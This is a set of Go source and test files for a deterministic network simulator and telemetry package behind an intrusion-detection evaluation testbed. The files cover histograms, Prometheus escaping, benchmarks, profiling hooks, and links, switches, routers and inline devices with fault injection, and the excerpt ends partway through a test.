			t.Errorf("family %s: type %q, want %q\n%s", name, got, typ, buf.String())
		}
	}
	// An empty histogram still satisfies the invariants: +Inf 0, count 0.
	if !strings.Contains(buf.String(), `empty_lat_ns_bucket{le="+Inf"} 0`) {
		t.Errorf("empty histogram missing zero +Inf bucket:\n%s", buf.String())
	}
}

func TestPromEscaping(t *testing.T) {
	if got := promEscapeHelp("a\\b\nc"); got != `a\\b\nc` {
		t.Errorf("help escape = %q", got)
	}
	if got := promEscapeLabel("a\"b\\c\nd"); got != `a\"b\\c\nd` {
		t.Errorf("label escape = %q", got)
	}
	if got := promName("9a.b-c"); got != "_9a_b_c" {
		t.Errorf("promName = %q", got)
	}
}

// TestHistogramQuantileEdgeCases pins the estimator on the degenerate
// shapes: no samples, one sample, and every sample past the last bound
// (all mass in the overflow bucket).
func TestHistogramQuantileEdgeCases(t *testing.T) {
	t.Run("empty", func(t *testing.T) {
		s := NewHistogram("e", ClockNone, []int64{10, 20}).Snap()
		if s.Count != 0 || s.Sum != 0 {
			t.Fatalf("empty snap: %+v", s)
		}
		for _, q := range []float64{0, 0.5, 0.99, 1} {
			if got := s.Quantile(q); got != 0 {
				t.Errorf("empty q%.2f = %d, want 0", q, got)
			}
		}
		if s.Mean() != 0 {
			t.Errorf("empty mean = %f", s.Mean())
		}
		if len(s.Buckets) != 0 {
			t.Errorf("empty snap has buckets: %+v", s.Buckets)
		}
	})
	t.Run("single-sample", func(t *testing.T) {
		h := NewHistogram("s", ClockNone, []int64{10, 20})
		h.Observe(15)
		s := h.Snap()
		for _, q := range []float64{0, 0.25, 0.5, 0.95, 1} {
			if got := s.Quantile(q); got != 15 {
				t.Errorf("single q%.2f = %d, want 15", q, got)
			}
		}
		if s.Min != 15 || s.Max != 15 {
			t.Errorf("single min/max = %d/%d", s.Min, s.Max)
		}
	})
	t.Run("all-in-overflow", func(t *testing.T) {
		h := NewHistogram("o", ClockNone, []int64{10, 20})
		h.Observe(100)
		h.Observe(200)
		h.Observe(300)
		s := h.Snap()
		// Every estimate must stay clamped inside observed data.
		for _, q := range []float64{0, 0.1, 0.5, 0.9, 1} {
			got := s.Quantile(q)
			if got < 100 || got > 300 {
				t.Errorf("overflow q%.2f = %d, outside [100,300]", q, got)
			}
		}
		if s.Quantile(0) != 100 || s.Quantile(1) != 300 {
			t.Errorf("overflow extremes = %d/%d", s.Quantile(0), s.Quantile(1))
		}
		if len(s.Buckets) != 1 || s.Buckets[0].Count != 3 {
			t.Fatalf("overflow buckets: %+v", s.Buckets)
		}
		// The synthetic overflow bucket upper is the observed max, so the
		// rendered le ladder stays ascending and finite.
		if s.Buckets[0].Upper != 300 {
			t.Errorf("overflow bucket upper = %d, want observed max 300", s.Buckets[0].Upper)
		}
	})
}

// TestSnapshotMergeNameCollision pins Merge's documented behavior when
// names are NOT disjoint: both entries are retained (append semantics,
// no summing), and the accessors resolve to the first-merged entry.
// Prefixed is the supported way to avoid the collision.
func TestSnapshotMergeNameCollision(t *testing.T) {
	mk := func(v uint64) *Snapshot {
		reg := NewRegistry()
		reg.Counter("dup.count").Add(v)
		reg.Gauge("dup.depth").Set(int64(v))
		reg.Histogram("dup.lat_ns", ClockNone).Observe(int64(v))
		return reg.Snapshot()
	}
	a, b := mk(1), mk(2)
	a.Merge(b)
	if len(a.Counters) != 2 || len(a.Gauges) != 2 || len(a.Hists) != 2 {
		t.Fatalf("merge collapsed colliding entries: %d/%d/%d", len(a.Counters), len(a.Gauges), len(a.Hists))
	}
	if v, _ := a.Counter("dup.count"); v != 1 {
		t.Errorf("accessor after collision = %d, want first-merged 1", v)
	}
	if g, _ := a.Gauge("dup.depth"); g.Value != 1 {
		t.Errorf("gauge accessor after collision = %d, want 1", g.Value)
	}
	if h := a.Hist("dup.lat_ns"); h == nil || h.Sum != 1 {
		t.Errorf("hist accessor after collision = %+v, want first-merged", h)
	}
	// The same shapes merged through Prefixed stay collision-free.
	c := mk(1).Prefixed("a.")
	c.Merge(mk(2).Prefixed("b."))
	if v, ok := c.Counter("b.dup.count"); !ok || v != 2 {
		t.Errorf("prefixed merge lost b.dup.count: %d %v", v, ok)
	}
}
