package obs

import (
	"testing"
	"time"
)

// The disabled-path benchmarks pin the cost of telemetry when it is
// switched off: a nil-receiver check, no atomics, no allocations.
// `make benchobs` snapshots these into BENCH_obs.json so regressions
// show up as diffs.

func BenchmarkCounterIncDisabled(b *testing.B) {
	var c *Counter
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		c.Inc()
	}
}

func BenchmarkHistogramObserveDisabled(b *testing.B) {
	var h *Histogram
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		h.Observe(int64(i))
	}
}

func BenchmarkGaugeUpdateDisabled(b *testing.B) {
	var g *Gauge
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		g.Update(1)
	}
}

func BenchmarkSpanDisabled(b *testing.B) {
	var reg *Registry
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		reg.StartSpan("stage").End()
	}
}

func BenchmarkCounterIncEnabled(b *testing.B) {
	c := NewRegistry().Counter("bench.count")
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		c.Inc()
	}
}

func BenchmarkHistogramObserveEnabled(b *testing.B) {
	h := NewRegistry().Histogram("bench.lat_ns", ClockSim)
	v := int64(3 * time.Millisecond)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		h.Observe(v)
	}
}

func BenchmarkGaugeUpdateEnabled(b *testing.B) {
	g := NewRegistry().Gauge("bench.depth")
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		g.Update(1)
	}
}

func BenchmarkHistogramObserveParallel(b *testing.B) {
	h := NewRegistry().Histogram("bench.lat_ns", ClockSim)
	b.ReportAllocs()
	b.RunParallel(func(pb *testing.PB) {
		v := int64(time.Microsecond)
		for pb.Next() {
			h.Observe(v)
		}
	})
}

func BenchmarkFlightRecordDisabled(b *testing.B) {
	var f *FlightRecorder
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		f.Record(FlightWindow, 1, int64(i), 0, "w")
	}
}

func BenchmarkFlightRecordEnabled(b *testing.B) {
	f := NewFlightRecorder(1 << 12)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		f.Record(FlightWindow, 1, int64(i), 0, "w")
	}
}

func BenchmarkSnapshot(b *testing.B) {
	reg := NewRegistry()
	for _, n := range []string{"a", "b", "c", "d"} {
		reg.Counter("count." + n).Inc()
		reg.Histogram("lat."+n, ClockSim).Observe(100)
	}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		_ = reg.Snapshot()
	}
}
