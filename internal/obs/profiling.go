package obs

import (
	"fmt"
	"os"
	"runtime"
	"runtime/pprof"
)

// StartProfiles arms the runtime/pprof profile-to-file hooks shared by
// every command: a CPU profile recorded from now until stop is called,
// and a heap profile written at stop. Either path may be empty to skip
// that profile. The returned stop function is safe to call exactly once
// (defer it from main); it reports any error writing the profiles.
func StartProfiles(cpuPath, memPath string) (stop func() error, err error) {
	var cpuFile *os.File
	if cpuPath != "" {
		cpuFile, err = os.Create(cpuPath)
		if err != nil {
			return nil, fmt.Errorf("obs: cpu profile: %w", err)
		}
		if err := pprof.StartCPUProfile(cpuFile); err != nil {
			cpuFile.Close()
			return nil, fmt.Errorf("obs: cpu profile: %w", err)
		}
	}
	return func() error {
		var firstErr error
		if cpuFile != nil {
			pprof.StopCPUProfile()
			if err := cpuFile.Close(); err != nil {
				firstErr = err
			}
		}
		if memPath != "" {
			f, err := os.Create(memPath)
			if err != nil {
				if firstErr == nil {
					firstErr = err
				}
			} else {
				runtime.GC() // materialize up-to-date allocation statistics
				if err := pprof.WriteHeapProfile(f); err != nil && firstErr == nil {
					firstErr = err
				}
				if err := f.Close(); err != nil && firstErr == nil {
					firstErr = err
				}
			}
		}
		return firstErr
	}, nil
}
