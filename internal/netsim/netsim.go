// Package netsim is the network substrate of the IDS evaluation testbed:
// hosts, duplex links with finite bandwidth and buffering, learning-free
// switches with SPAN (port-mirroring) support, a border router, and
// generic in-line devices. All behaviour is driven by the simtime kernel,
// so every latency, queue drop, and delivery is deterministic and
// observable — which is exactly what the paper's performance metrics
// (induced traffic latency, maximal throughput with zero loss, network
// lethal dose) need to be measured against.
package netsim

import (
	"fmt"
	"time"

	"repro/internal/obs"
	"repro/internal/packet"
	"repro/internal/simtime"
)

// Endpoint is anything a link can deliver packets to.
type Endpoint interface {
	// Receive handles a packet arriving over the given link.
	Receive(p *packet.Packet, from *Link)
	// Name identifies the endpoint in diagnostics.
	Name() string
}

// LinkStats counts traffic over one direction of a link.
type LinkStats struct {
	Sent      uint64
	Delivered uint64
	Dropped   uint64
	Bytes     uint64
}

// transmission is one packet committed to a link direction's wire but
// not yet delivered.
type transmission struct {
	p       *packet.Packet
	size    int
	arrival simtime.Time
}

// linkDir is the transmission state for one direction of a duplex link.
// In-flight packets sit in a FIFO ring whose backing array is recycled
// in place, with a single armed delivery event for the head — so a
// sustained high-pps flow reuses one buffer and one closure instead of
// allocating a fresh closure per packet.
type linkDir struct {
	to        Endpoint
	busyUntil simtime.Time
	queued    int // bytes committed to the queue but not yet serialized
	stats     LinkStats

	// sim is the event domain that drives this direction: the SENDER's
	// domain, since Send and the serialization/arrival bookkeeping all
	// run in the sender's context. On an ordinary link both directions
	// share the link's sim; on a cross-domain link (Fabric.Link) each
	// direction is owned by the domain of the endpoint that transmits
	// into it, so all mutable state here stays single-threaded.
	sim *simtime.Sim
	// post, when non-nil, marks this a cross-domain direction: delivery
	// to the far endpoint is handed to the coordinator (ShardedSim.Post)
	// at Send time — the arrival is >= now + Propagation >= now +
	// lookahead, exactly the conservative contract — while the local
	// completion event keeps doing the sender-side queue bookkeeping.
	post func(at simtime.Time, fn func())

	inflight []transmission
	head     int
	armed    bool
	deliver  func() // reused delivery handler for the queue head

	// Telemetry instruments; nil (free no-ops) unless Instrument is called.
	cSent, cDelivered, cDropped, cBytes *obs.Counter
	gQueued                             *obs.Gauge
}

// pop removes and returns the queue head, compacting the ring when it
// empties so the backing array is reused.
func (dir *linkDir) pop() transmission {
	tx := dir.inflight[dir.head]
	dir.inflight[dir.head].p = nil // don't retain the packet via the pool
	dir.head++
	if dir.head == len(dir.inflight) {
		dir.inflight = dir.inflight[:0]
		dir.head = 0
	}
	return tx
}

// Link is a full-duplex point-to-point link with finite bandwidth, a
// propagation delay, and a bounded per-direction transmit buffer. Packets
// that would overflow the buffer are dropped — this is the mechanism
// behind every loss-based metric in the harness.
type Link struct {
	sim *simtime.Sim
	// BandwidthBps is the serialization rate in bits per second.
	BandwidthBps float64
	// Propagation is the one-way signal delay.
	Propagation time.Duration
	// BufferBytes bounds the per-direction transmit queue.
	BufferBytes int
	name        string
	a, b        *linkDir
	// cross marks a link whose endpoints live in different event domains
	// (see Fabric). Cross links reject fault injection: the impairment
	// state is shared by both directions, which would race across
	// domains, and the fault harness targets intra-segment gear anyway.
	cross bool

	// imp is fault-injection state; nil on the un-faulted path, so an
	// unimpaired link pays one pointer check per Send.
	imp *linkImpairment
}

// linkImpairment is the fault-injection state of a link: a hard
// partition, a bandwidth derating, or deterministic periodic loss. All
// three are applied at Send time so in-flight packets committed before
// injection still arrive — matching a real cable pull, which loses what
// had not yet been serialized.
type linkImpairment struct {
	down      bool
	bwScale   float64 // multiplies BandwidthBps when in (0,1)
	dropEvery int     // drop every Nth offered packet; 0 disables
	dropCount int
	drops     uint64 // packets discarded by the impairment
}

// SetDown partitions (true) or heals (false) the link. While down every
// offered packet is dropped and counted.
func (l *Link) SetDown(down bool) {
	l.ensureImpairment().down = down
}

// SetBandwidthScale derates the link's serialization rate by scale in
// (0,1); 0 or 1 restores nominal bandwidth.
func (l *Link) SetBandwidthScale(scale float64) {
	l.ensureImpairment().bwScale = scale
}

// SetLossEvery drops every nth offered packet deterministically (n >= 1;
// n == 1 drops everything). 0 disables injected loss.
func (l *Link) SetLossEvery(n int) {
	imp := l.ensureImpairment()
	imp.dropEvery = n
	imp.dropCount = 0
}

// ClearImpairment removes all injected faults, keeping the drop count.
func (l *Link) ClearImpairment() {
	if l.imp == nil {
		return
	}
	drops := l.imp.drops
	l.imp = &linkImpairment{drops: drops}
	l.imp.bwScale = 0
	// A fully cleared impairment is equivalent to none; drop back to the
	// nil fast path once nothing remains to remember.
	if drops == 0 {
		l.imp = nil
	}
}

// InjectedDrops returns packets discarded by fault injection on this
// link (both directions).
func (l *Link) InjectedDrops() uint64 {
	if l.imp == nil {
		return 0
	}
	return l.imp.drops
}

func (l *Link) ensureImpairment() *linkImpairment {
	if l.cross {
		panic(fmt.Sprintf("netsim: link %q crosses event domains; fault injection on cross-domain links is unsupported (impairment state would be shared across domains)", l.name))
	}
	if l.imp == nil {
		l.imp = &linkImpairment{}
	}
	return l.imp
}

// LinkConfig parameterizes NewLink.
type LinkConfig struct {
	Name         string
	BandwidthBps float64       // default 1 Gb/s
	Propagation  time.Duration // default 50µs
	BufferBytes  int           // default 256 KiB
}

// NewLink connects endpoints a and b. Either may be nil and attached later
// with AttachA/AttachB.
func NewLink(sim *simtime.Sim, a, b Endpoint, cfg LinkConfig) *Link {
	if cfg.BandwidthBps <= 0 {
		cfg.BandwidthBps = 1e9
	}
	if cfg.Propagation <= 0 {
		cfg.Propagation = 50 * time.Microsecond
	}
	if cfg.BufferBytes <= 0 {
		cfg.BufferBytes = 256 << 10
	}
	if cfg.Name == "" {
		cfg.Name = "link"
	}
	l := &Link{
		sim:          sim,
		BandwidthBps: cfg.BandwidthBps,
		Propagation:  cfg.Propagation,
		BufferBytes:  cfg.BufferBytes,
		name:         cfg.Name,
		a:            &linkDir{to: a, sim: sim},
		b:            &linkDir{to: b, sim: sim},
	}
	l.a.deliver = l.deliverFunc(l.a)
	l.b.deliver = l.deliverFunc(l.b)
	return l
}

// deliverFunc builds the one delivery handler a direction reuses for
// every packet: deliver the queue head, then re-arm for the next
// in-flight packet (arrivals are FIFO because busyUntil is monotone).
// On a cross-domain direction this event is sender-side bookkeeping
// only — the far endpoint's Receive was posted to the coordinator at
// Send time and executes in the destination domain.
func (l *Link) deliverFunc(dir *linkDir) func() {
	return func() {
		tx := dir.pop()
		dir.queued -= tx.size
		dir.stats.Delivered++
		dir.stats.Bytes += uint64(tx.size)
		dir.cDelivered.Inc()
		dir.cBytes.Add(uint64(tx.size))
		dir.gQueued.Set(int64(dir.queued))
		if dir.head < len(dir.inflight) {
			dir.sim.MustSchedule(dir.inflight[dir.head].arrival-dir.sim.Now(), dir.deliver)
		} else {
			dir.armed = false
		}
		if dir.post == nil && dir.to != nil {
			dir.to.Receive(tx.p, l)
		}
	}
}

// AttachA sets the endpoint on the A side.
func (l *Link) AttachA(e Endpoint) { l.a.to = e }

// AttachB sets the endpoint on the B side.
func (l *Link) AttachB(e Endpoint) { l.b.to = e }

// A returns the endpoint on the A side.
func (l *Link) A() Endpoint { return l.a.to }

// B returns the endpoint on the B side.
func (l *Link) B() Endpoint { return l.b.to }

// Name returns the link's diagnostic name.
func (l *Link) Name() string { return l.name }

// dirFrom resolves which direction a transmission from the given endpoint
// uses. Sending from A delivers to B and vice versa.
func (l *Link) dirFrom(from Endpoint) (*linkDir, error) {
	switch from {
	case l.a.to:
		return l.b, nil
	case l.b.to:
		return l.a, nil
	default:
		return nil, fmt.Errorf("netsim: endpoint %q not attached to link %q", from.Name(), l.name)
	}
}

// Send transmits p from the given attached endpoint toward the other side.
// It reports whether the packet was accepted (false means a buffer drop
// or an injected fault).
func (l *Link) Send(from Endpoint, p *packet.Packet) bool {
	dir, err := l.dirFrom(from)
	if err != nil {
		panic(err) // topology wiring bug, not a runtime condition
	}
	dir.stats.Sent++
	dir.cSent.Inc()
	bw := l.BandwidthBps
	if imp := l.imp; imp != nil {
		if imp.down {
			imp.drops++
			dir.stats.Dropped++
			dir.cDropped.Inc()
			return false
		}
		if imp.dropEvery > 0 {
			imp.dropCount++
			if imp.dropCount >= imp.dropEvery {
				imp.dropCount = 0
				imp.drops++
				dir.stats.Dropped++
				dir.cDropped.Inc()
				return false
			}
		}
		if imp.bwScale > 0 && imp.bwScale < 1 {
			bw *= imp.bwScale
		}
	}
	size := p.WireLen()
	if dir.queued+size > l.BufferBytes {
		dir.stats.Dropped++
		dir.cDropped.Inc()
		return false
	}
	dir.queued += size
	dir.gQueued.Set(int64(dir.queued))
	now := dir.sim.Now()
	start := now
	if dir.busyUntil > start {
		start = dir.busyUntil
	}
	serialize := time.Duration(float64(size*8) / bw * float64(time.Second))
	dir.busyUntil = start + serialize
	arrival := dir.busyUntil + l.Propagation
	dir.inflight = append(dir.inflight, transmission{p: p, size: size, arrival: arrival})
	if !dir.armed {
		dir.armed = true
		dir.sim.MustSchedule(arrival-now, dir.deliver)
	}
	if dir.post != nil {
		// Hand the far-side delivery to the coordinator now, while the
		// arrival (>= now + Propagation >= now + lookahead) still clears
		// the conservative window. The packet is not mutated after this
		// point on the sending side.
		to, pkt := dir.to, p
		dir.post(arrival, func() { to.Receive(pkt, l) })
	}
	return true
}

// Instrument registers per-direction traffic counters and queued-bytes
// gauges for this link under "netsim.link.<name>.<dir>". Directions are
// labeled by the endpoint they deliver to. Idempotent; a nil registry
// leaves the link uninstrumented (the free path).
func (l *Link) Instrument(reg *obs.Registry) {
	l.a.instrument(reg, l.name, "a")
	l.b.instrument(reg, l.name, "b")
}

func (dir *linkDir) instrument(reg *obs.Registry, link, side string) {
	if reg == nil {
		return
	}
	if dir.to != nil {
		side = "to_" + dir.to.Name()
	}
	base := "netsim.link." + link + "." + side + "."
	dir.cSent = reg.Counter(base + "sent")
	dir.cDelivered = reg.Counter(base + "delivered")
	dir.cDropped = reg.Counter(base + "dropped")
	dir.cBytes = reg.Counter(base + "bytes")
	dir.gQueued = reg.Gauge(base + "queued_bytes")
}

// StatsToward returns the counters for the direction delivering to e.
func (l *Link) StatsToward(e Endpoint) LinkStats {
	if l.a.to == e {
		return l.a.stats
	}
	if l.b.to == e {
		return l.b.stats
	}
	return LinkStats{}
}

// Host is a leaf node with an address and an application-level packet
// handler. A host attaches to exactly one link (its NIC).
type Host struct {
	sim  *simtime.Sim
	addr packet.Addr
	name string
	link *Link
	// OnPacket, if set, handles every packet delivered to the host.
	OnPacket func(p *packet.Packet)
	// Received counts delivered packets.
	Received uint64
	// SendFailed counts packets refused at the local link buffer.
	SendFailed uint64
}

// NewHost creates a host. Attach it to a link before sending.
func NewHost(sim *simtime.Sim, name string, addr packet.Addr) *Host {
	return &Host{sim: sim, addr: addr, name: name}
}

// Name implements Endpoint.
func (h *Host) Name() string { return h.name }

// Addr returns the host's address.
func (h *Host) Addr() packet.Addr { return h.addr }

// SetLink attaches the host's NIC.
func (h *Host) SetLink(l *Link) { h.link = l }

// HasLink reports whether the host's NIC is attached.
func (h *Host) HasLink() bool { return h.link != nil }

// Send transmits a packet from this host, stamping Sent time and source
// address if unset. It reports whether the local link accepted it. A host
// with no attached link refuses the packet (counted in SendFailed) —
// wiring mistakes are caught earlier by Topology.Validate, so this is a
// defensive bound rather than a panic site.
func (h *Host) Send(p *packet.Packet) bool {
	if h.link == nil {
		h.SendFailed++
		return false
	}
	if p.Src == 0 {
		p.Src = h.addr
	}
	p.Sent = h.sim.Now()
	if p.TTL == 0 {
		p.TTL = 64
	}
	ok := h.link.Send(h, p)
	if !ok {
		h.SendFailed++
	}
	return ok
}

// Receive implements Endpoint.
func (h *Host) Receive(p *packet.Packet, _ *Link) {
	h.Received++
	if h.OnPacket != nil {
		h.OnPacket(p)
	}
}

// Switch is an output-queued switch with a static forwarding table and
// optional SPAN mirroring. Every forwarded packet is also copied to the
// mirror link, if one is configured — the standard way a passive network
// IDS taps traffic (Section 2.2: "all traffic may be mirrored to it").
type Switch struct {
	sim        *simtime.Sim
	name       string
	table      map[packet.Addr]*Link
	uplink     *Link // default route for unknown destinations
	mirror     *Link
	latency    time.Duration
	Forwarded  uint64
	NoRoute    uint64
	MirrorSent uint64

	cForwarded, cNoRoute, cMirror *obs.Counter
}

// NewSwitch creates a switch with the given internal forwarding latency
// (zero means an idealized cut-through switch).
func NewSwitch(sim *simtime.Sim, name string, latency time.Duration) *Switch {
	return &Switch{
		sim:     sim,
		name:    name,
		table:   make(map[packet.Addr]*Link),
		latency: latency,
	}
}

// Name implements Endpoint.
func (s *Switch) Name() string { return s.name }

// Connect wires a host to the switch over a new link and registers the
// forwarding entry.
func (s *Switch) Connect(h *Host, cfg LinkConfig) *Link {
	if cfg.Name == "" {
		cfg.Name = s.name + "<->" + h.Name()
	}
	l := NewLink(s.sim, s, h, cfg)
	h.SetLink(l)
	s.table[h.Addr()] = l
	return l
}

// AddRoute registers an explicit forwarding entry for addr via l.
func (s *Switch) AddRoute(addr packet.Addr, l *Link) { s.table[addr] = l }

// SetUplink sets the default route used when no table entry matches.
func (s *Switch) SetUplink(l *Link) { s.uplink = l }

// SetMirror designates a link to receive a copy of all forwarded traffic.
func (s *Switch) SetMirror(l *Link) { s.mirror = l }

// Instrument registers forwarding counters under "netsim.switch.<name>".
func (s *Switch) Instrument(reg *obs.Registry) {
	if reg == nil {
		return
	}
	base := "netsim.switch." + s.name + "."
	s.cForwarded = reg.Counter(base + "forwarded")
	s.cNoRoute = reg.Counter(base + "no_route")
	s.cMirror = reg.Counter(base + "mirror_sent")
}

// Receive implements Endpoint: forward by destination address, mirroring a
// copy if a SPAN port is configured.
func (s *Switch) Receive(p *packet.Packet, from *Link) {
	forward := func() {
		out, ok := s.table[p.Dst]
		if !ok {
			out = s.uplink
		}
		if out == nil || out == from {
			s.NoRoute++
			s.cNoRoute.Inc()
			return
		}
		s.Forwarded++
		s.cForwarded.Inc()
		out.Send(s, p)
		if s.mirror != nil && s.mirror != from {
			s.MirrorSent++
			s.cMirror.Inc()
			// The mirror port serializes its own copy and may drop under
			// load — exactly how a saturated SPAN port starves a passive
			// sensor.
			s.mirror.Send(s, p)
		}
	}
	if s.latency > 0 {
		s.sim.MustSchedule(s.latency, forward)
	} else {
		forward()
	}
}

// Router forwards between prefixes. The testbed uses it as the border
// router between the "Internet" side (traffic sources, attackers) and the
// protected LAN.
type Router struct {
	sim       *simtime.Sim
	name      string
	routes    []route
	def       *Link
	latency   time.Duration
	Forwarded uint64
	TTLDrops  uint64
	NoRoute   uint64
}

type route struct {
	prefix packet.Addr
	mask   packet.Addr
	link   *Link
}

// NewRouter creates a router with the given per-packet forwarding latency.
func NewRouter(sim *simtime.Sim, name string, latency time.Duration) *Router {
	return &Router{sim: sim, name: name, latency: latency}
}

// Name implements Endpoint.
func (r *Router) Name() string { return r.name }

// AddRoute forwards destinations matching prefix/maskBits via l. Longer
// prefixes win.
func (r *Router) AddRoute(prefix packet.Addr, maskBits int, l *Link) {
	var mask packet.Addr
	if maskBits > 0 {
		mask = ^packet.Addr(0) << (32 - maskBits)
	}
	r.routes = append(r.routes, route{prefix: prefix & mask, mask: mask, link: l})
	// Keep longest-prefix first.
	for i := len(r.routes) - 1; i > 0; i-- {
		if r.routes[i].mask > r.routes[i-1].mask {
			r.routes[i], r.routes[i-1] = r.routes[i-1], r.routes[i]
		}
	}
}

// SetDefault sets the default route.
func (r *Router) SetDefault(l *Link) { r.def = l }

// Receive implements Endpoint.
func (r *Router) Receive(p *packet.Packet, from *Link) {
	forward := func() {
		if p.TTL <= 1 {
			r.TTLDrops++
			return
		}
		q := *p // headers copied; payload shared read-only
		q.TTL--
		out := r.def
		for _, rt := range r.routes {
			if q.Dst&rt.mask == rt.prefix {
				out = rt.link
				break
			}
		}
		if out == nil || out == from {
			r.NoRoute++
			return
		}
		r.Forwarded++
		out.Send(r, &q)
	}
	if r.latency > 0 {
		r.sim.MustSchedule(r.latency, forward)
	} else {
		forward()
	}
}

// InlineDevice sits in the forwarding path between two links, imposing a
// per-packet processing delay and an optional processing-capacity bound.
// It is the substrate for in-line load balancers and in-line IDS sensors,
// whose induced latency and loss the paper's metrics measure directly.
type InlineDevice struct {
	sim  *simtime.Sim
	name string
	// PerPacket is the fixed processing cost per packet.
	PerPacket time.Duration
	// CapacityPps bounds sustainable packets/sec (0 = unbounded). Beyond
	// capacity the device queues up to QueueLimit packets, then drops.
	CapacityPps float64
	QueueLimit  int

	left, right *Link
	busyUntil   simtime.Time
	queueDepth  int
	// Process, if set, inspects every packet (the hook in-line sensors
	// use). Returning false drops the packet (traffic filtering).
	Process func(p *packet.Packet) bool

	// queue holds accepted-but-unprocessed packets in a recycled FIFO
	// ring with one armed completion event, mirroring linkDir.
	queue []inlineJob
	head  int
	armed bool
	run   func()

	Forwarded uint64
	Dropped   uint64
	Filtered  uint64

	cForwarded, cDropped, cFiltered *obs.Counter
	gQueueDepth                     *obs.Gauge
	hSojourn                        *obs.Histogram // sim-time enqueue-to-completion
}

// inlineJob is one packet waiting in an InlineDevice's processor queue.
type inlineJob struct {
	p    *packet.Packet
	from *Link
	enq  simtime.Time
	done simtime.Time
}

// NewInlineDevice creates an in-line element. Wire it with SetLinks.
func NewInlineDevice(sim *simtime.Sim, name string, perPacket time.Duration) *InlineDevice {
	d := &InlineDevice{sim: sim, name: name, PerPacket: perPacket, QueueLimit: 4096}
	d.run = d.process
	return d
}

// process completes the queue head's service time: run the inspection
// hook and forward out the other side, then re-arm for the next job.
func (d *InlineDevice) process() {
	job := d.queue[d.head]
	d.queue[d.head] = inlineJob{}
	d.head++
	if d.head == len(d.queue) {
		d.queue = d.queue[:0]
		d.head = 0
	}
	d.queueDepth--
	d.gQueueDepth.Set(int64(d.queueDepth))
	d.hSojourn.Observe(int64(d.sim.Now() - job.enq))
	if d.head < len(d.queue) {
		d.sim.MustSchedule(d.queue[d.head].done-d.sim.Now(), d.run)
	} else {
		d.armed = false
	}
	if d.Process != nil && !d.Process(job.p) {
		d.Filtered++
		d.cFiltered.Inc()
		return
	}
	out := d.right
	if job.from == d.right {
		out = d.left
	}
	if out == nil {
		d.Dropped++
		d.cDropped.Inc()
		return
	}
	d.Forwarded++
	d.cForwarded.Inc()
	out.Send(d, job.p)
}

// Name implements Endpoint.
func (d *InlineDevice) Name() string { return d.name }

// Instrument registers the device's counters, queue-depth gauge, and
// sim-time queue-sojourn histogram under "netsim.inline.<name>".
func (d *InlineDevice) Instrument(reg *obs.Registry) {
	if reg == nil {
		return
	}
	base := "netsim.inline." + d.name + "."
	d.cForwarded = reg.Counter(base + "forwarded")
	d.cDropped = reg.Counter(base + "dropped")
	d.cFiltered = reg.Counter(base + "filtered")
	d.gQueueDepth = reg.Gauge(base + "queue_depth")
	d.hSojourn = reg.Histogram(base+"queue_wait_ns", obs.ClockSim)
}

// SetLinks attaches the two sides of the device.
func (d *InlineDevice) SetLinks(left, right *Link) {
	d.left = left
	d.right = right
}

// Receive implements Endpoint: apply processing delay/capacity, run the
// Process hook, and forward out the other side.
func (d *InlineDevice) Receive(p *packet.Packet, from *Link) {
	now := d.sim.Now()
	cost := d.PerPacket
	if d.CapacityPps > 0 {
		svc := time.Duration(float64(time.Second) / d.CapacityPps)
		if svc > cost {
			cost = svc
		}
	}
	start := now
	if d.busyUntil > start {
		start = d.busyUntil
	}
	// Queue-depth accounting: packets waiting for the processor.
	if d.queueDepth >= d.QueueLimit {
		d.Dropped++
		d.cDropped.Inc()
		return
	}
	d.queueDepth++
	d.gQueueDepth.Set(int64(d.queueDepth))
	d.busyUntil = start + cost
	d.queue = append(d.queue, inlineJob{p: p, from: from, enq: now, done: d.busyUntil})
	if !d.armed {
		d.armed = true
		d.sim.MustSchedule(d.busyUntil-now, d.run)
	}
}

// Sink is an endpoint that counts and optionally inspects packets without
// forwarding them. Passive (mirror-fed) sensors are Sinks.
type Sink struct {
	name string
	// OnPacket, if set, observes each delivered packet.
	OnPacket func(p *packet.Packet)
	Count    uint64
	Bytes    uint64
}

// NewSink creates a counting sink.
func NewSink(name string) *Sink { return &Sink{name: name} }

// Name implements Endpoint.
func (s *Sink) Name() string { return s.name }

// Receive implements Endpoint.
func (s *Sink) Receive(p *packet.Packet, _ *Link) {
	s.Count++
	s.Bytes += uint64(p.WireLen())
	if s.OnPacket != nil {
		s.OnPacket(p)
	}
}
