package netsim

import (
	"strings"
	"testing"
	"time"

	"repro/internal/packet"
	"repro/internal/simtime"
)

// fpkt builds a small test packet.
func fpkt(n int) *packet.Packet {
	return &packet.Packet{Src: packet.IPv4(10, 0, 0, 1), Dst: packet.IPv4(10, 0, 0, 2), Payload: make([]byte, n)}
}

func TestLinkPartitionDropsAndHeals(t *testing.T) {
	sim := simtime.New(1)
	sink := NewSink("sink")
	src := NewHost(sim, "src", packet.IPv4(10, 0, 0, 1))
	l := NewLink(sim, src, sink, LinkConfig{})
	src.SetLink(l)

	if !src.Send(fpkt(100)) {
		t.Fatal("healthy link refused packet")
	}
	l.SetDown(true)
	if src.Send(fpkt(100)) {
		t.Fatal("partitioned link accepted packet")
	}
	if got := l.InjectedDrops(); got != 1 {
		t.Fatalf("InjectedDrops = %d, want 1", got)
	}
	if got := l.StatsToward(sink).Dropped; got != 1 {
		t.Fatalf("direction drop count = %d, want 1", got)
	}
	l.SetDown(false)
	if !src.Send(fpkt(100)) {
		t.Fatal("healed link refused packet")
	}
	sim.Run()
	if sink.Count != 2 {
		t.Fatalf("sink received %d packets, want 2", sink.Count)
	}
}

func TestLinkBandwidthScaleSlowsDelivery(t *testing.T) {
	// The same packet over the same link must arrive later once the
	// bandwidth is derated, and at the original time once cleared.
	arrivalAt := func(scale float64) simtime.Time {
		sim := simtime.New(1)
		sink := NewSink("sink")
		src := NewHost(sim, "src", packet.IPv4(10, 0, 0, 1))
		l := NewLink(sim, src, sink, LinkConfig{BandwidthBps: 1e6})
		src.SetLink(l)
		if scale > 0 {
			l.SetBandwidthScale(scale)
		}
		src.Send(fpkt(1000))
